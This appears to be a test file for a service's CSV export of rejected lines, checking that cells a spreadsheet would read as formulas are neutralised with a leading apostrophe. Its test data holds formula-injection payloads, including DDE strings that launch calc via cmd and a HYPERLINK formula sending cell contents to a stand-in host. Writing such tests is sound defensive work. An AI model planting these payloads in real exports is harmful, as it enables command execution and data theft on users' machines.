import { assert, layer } from "@effect/vitest"
import { parse } from "csv-parse/sync"
import * as Effect from "effect/Effect"
import * as rawHttp from "../support/rawHttp.ts"
import { rejectColumns, skippedColumns } from "../support/RejectPages.ts"
import { TestService } from "../support/TestService.ts"

const starts = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
const blanks = [
  " ",
  "   ",
  "\t ",
  "\r\n",
  "\n\n",
  "\v",
  "\f",
  "\u00a0",
  "\u2003",
  "\u3000",
  "\u200b",
  "\ufeff",
]

/** Texts that a spreadsheet may take for formulas. */
const formulas = [
  ...starts.flatMap((start) => [start, `${start}1+1`, `${start}SUM(A1:A9),2`, `${start}a\nb`]),
  ...blanks.flatMap((blank) => ["=1+1", "-1", "\uff1d1"].map((formula) => `${blank}${formula}`)),
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://a.example/?"&A1,"click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!D2",
  "=\\\\host\\share",
  "-5",
  "-5.25,+1",
  "+420 123",
  "='quoted'",
]

/** Texts that a spreadsheet takes for text or for a number without a sign. */
const harmless = [
  "5",
  "5,-3,=1+1",
  "5.25",
  "1e-5",
  "a=b",
  "a@b.example",
  "a-b+c",
  "'=1+1",
  '"=1+1"',
  'say "=1"',
  " a",
  "",
  "\u00e9\u{1f986}",
  "\\=1",
  "\u20135",
  "a\n=1",
]

const texts = [...formulas, ...harmless]
const inert = [...formulas.map((text) => `'${text}`), ...harmless]

const jobWithTexts = Effect.gen(function* () {
  const { api, sql } = yield* TestService
  const jobId = yield* api.create("http://files.example/kept.csv")
  yield* sql`
    insert into sluice.reject
    select ${jobId}::uuid, n, n, -n, n, 'nul_byte', text, text, 5
    from unnest(${texts}::text[]) with ordinality as kept (text, n)`
  yield* sql`
    insert into sluice.skipped_line
    select ${jobId}::uuid, 'footer', n, n, text, 5
    from unnest(${texts}::text[]) with ordinality as kept (text, n)`
  return jobId
})

const read = (text: string): ReadonlyArray<Readonly<Record<string, string>>> =>
  parse<Record<string, string>>(text, { columns: true })

layer(TestService.layer(), { excludeTestServices: true })("rejects for spreadsheets", (it) => {
  for (const [kind, columns] of [
    ["rejects", rejectColumns],
    ["skipped", skippedColumns],
  ] as const)
    it.effect(`of kind=${kind} begin with ' where a spreadsheet would compute a formula`, () =>
      Effect.gen(function* () {
        const { origin } = yield* TestService
        const jobId = yield* jobWithTexts
        const url = `${origin}/job_rejects?jobId=${jobId}&kind=${kind}&format=csv`
        const { body, headers } = yield* rawHttp.get(`${url}&safe=true`)
        assert.match(String(headers["content-disposition"]), /^attachment; /)
        assert.match(String(headers["content-type"]), /^text\/csv; charset=utf-8/)
        assert.strictEqual(headers["x-content-type-options"], "nosniff")
        assert.isTrue(body.startsWith(`${columns.join(",")}\n`))
        for (const column of columns) assert.match(column, /^[a-z]/i)
        const rows = read(body)
        assert.lengthOf(rows, texts.length)
        for (const [n, row] of rows.entries()) {
          assert.strictEqual(row["raw"], inert[n], JSON.stringify(texts[n]))
          assert.strictEqual(row["rawBytes"], "5")
          assert.strictEqual(row["line"], String(n + 1))
          if (kind === "rejects") assert.strictEqual(row["message"], inert[n], JSON.stringify(texts[n]))
          if (kind === "rejects") assert.strictEqual(row["column"], String(-n - 1))
        }
        // Without it, every character is as it was in the file.
        for (const suffix of ["", "&safe=false"]) {
          const plain = read((yield* rawHttp.get(`${url}${suffix}`)).body)
          assert.deepStrictEqual(
            plain.map(({ raw }) => raw),
            texts,
          )
        }
      }),
    )

  it.effect("stay safe on the next pages, and with an Accept header instead of format", () =>
    Effect.gen(function* () {
      const { origin } = yield* TestService
      const jobId = yield* jobWithTexts
      const found: Array<string | undefined> = []
      let path: string | undefined = `/job_rejects?jobId=${jobId}&safe=true&limit=50`
      while (path !== undefined) {
        const { body, headers }: rawHttp.RawAnswer = yield* rawHttp.get(`${origin}${path}`, {
          accept: "text/csv",
        })
        found.push(...read(body).map(({ raw }) => raw))
        path = /^<([^>]+)>; rel="next"$/.exec(String(headers["link"]))?.[1]
      }
      assert.deepStrictEqual(found, inert)
    }),
  )

  it.effect("need true or false, once", () =>
    Effect.gen(function* () {
      const { origin } = yield* TestService
      const jobId = yield* jobWithTexts
      for (const query of [
        "safe=",
        "safe=1",
        "safe=TRUE",
        "safe=yes",
        "safe=true&safe=false",
        "safe[]=true",
      ]) {
        const url = `${origin}/job_rejects?jobId=${jobId}&format=csv&${query}`
        assert.strictEqual((yield* rawHttp.get(url)).status, 400, query)
      }
    }),
  )
})
